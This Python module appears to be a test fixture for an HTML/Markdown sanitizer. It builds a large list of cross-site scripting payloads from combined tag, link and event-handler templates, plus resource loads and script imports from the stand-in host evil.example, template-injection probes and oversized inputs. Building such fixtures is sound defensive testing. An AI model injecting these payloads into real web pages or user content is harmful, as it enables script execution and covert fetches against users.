"""Text that wants to be more than text: each would set ``window.hit`` or fetch something if it were let."""

from __future__ import annotations

EVIL = "https://evil.example"
RUN = (
    "window.hit=1",
    "top.hit=1",
    f"fetch('{EVIL}')",
    "import('https://evil.example/x.js')",
    "eval('hit=1')",
)
TAGS = (
    "<script>{0}</script>", "<img src=x onerror=\"{0}\">", "<svg onload=\"{0}\">", "<svg><script>{0}</script></svg>",
    "<iframe srcdoc=\"<script>parent.{0}</script>\">", "<body onload=\"{0}\">", "<input autofocus onfocus=\"{0}\">",
    "<details open ontoggle=\"{0}\"><summary>x</summary></details>", "<video><source onerror=\"{0}\"></video>",
    "<audio src=x onerror=\"{0}\">", "<marquee onstart=\"{0}\">x</marquee>", "<object data=\"javascript:{0}\"></object>",
    "<embed src=\"javascript:{0}\">", "<math><mi xlink:href=\"javascript:{0}\">x</mi></math>", "<a href=\"javascript:{0}\">x</a>",
    "<form action=\"javascript:{0}\"><button>x</button></form>", "<button formaction=\"javascript:{0}\">x</button>",
    "<isindex action=\"javascript:{0}\">", "<select autofocus onfocus=\"{0}\">", "<style onload=\"{0}\"></style>",
    "\"><script>{0}</script>", "'><img src=x onerror=\"{0}\">", "</textarea><script>{0}</script>", "</title><script>{0}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<scr<script>ipt>{0}</script>", "<SCRIPT>{0}</SCRIPT>",
    "<svg><animate onbegin=\"{0}\" attributeName=x dur=1s>", "<template><script>{0}</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"{0}\">", "<frontdesk-panel onclick=\"{0}\">", "<x onpointerenter=\"{0}\">x",
)  # fmt: skip
LINKS = (
    "[x](javascript:{0})", "[x](JaVaScRiPt:{0})", "[x](java\nscript:{0})", "[x](&#106;avascript:{0})", "[x](data:text/html,<script>{0}</script>)",
    "[x](vbscript:{0})", "[x](  javascript:{0})", "[x](javascript&colon;{0})", "<javascript:{0}>", "[x]: javascript:{0}\n\n[x]",
    "![x](javascript:{0})", "[![x](x)](javascript:{0})", "[x](\u0001javascript:{0})", "[x](blob:{0})", "[x](file:///etc/passwd#{0})",
    "[x](https://a\"onmouseover=\"{0})", "[x](https://a 'onclick=\"{0}')", "`<img src=x onerror={0}>`", "```\n</code><script>{0}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={0}> |",
)  # fmt: skip
FETCHES = (
    f"![x]({EVIL}/p.png)", f"<img src={EVIL}/p.png>", f"<img srcset={EVIL}/p.png>", f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<style>@import '{EVIL}/s.css'</style>", f"<div style=\"background:url({EVIL}/p.png)\">x</div>", f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<video poster={EVIL}/p.png>", f"<audio src={EVIL}/a.mp3>",
    f"<iframe src={EVIL}>", f"<object data={EVIL}>", f"<embed src={EVIL}>", f"<svg><image href={EVIL}/p.png></svg>",
    f"<svg><use href={EVIL}/s.svg#x></svg>", f"<input type=image src={EVIL}/p.png>", f"<body background={EVIL}/p.png>",
    f"<table background={EVIL}/p.png><tr><td>x</table>", f"<track src={EVIL}/t.vtt>", f"<script src={EVIL}/x.js></script>",
    f"[![]({EVIL}/p.png)]({EVIL})", f"![][1]\n\n[1]: {EVIL}/p.png", f"<link rel=prefetch href={EVIL}>", f"<a ping={EVIL} href=#>x</a>",
)  # fmt: skip
PAYLOADS = [
    *(form.format(run) for form in TAGS for run in RUN),
    *(form.format(run) for form in LINKS for run in RUN),
    *FETCHES,
    "{{7*7}}", "#{7*7}", "javascript:window.hit=1", "\\<script>window.hit=1</script>", "<a href=//evil.example>x</a>", "${7*7}", "<%= 7*7 %>", "\u202egnp.exe", "\u2066x\u2069<b>", "a\u0300" * 200, "<!--", "]]>", "&lt;script&gt;", "x" * 3000,
    ">" * 600 + "x", "[" * 400, "*" * 600, "- " * 300 + "x", "(" * 200,
]  # fmt: skip
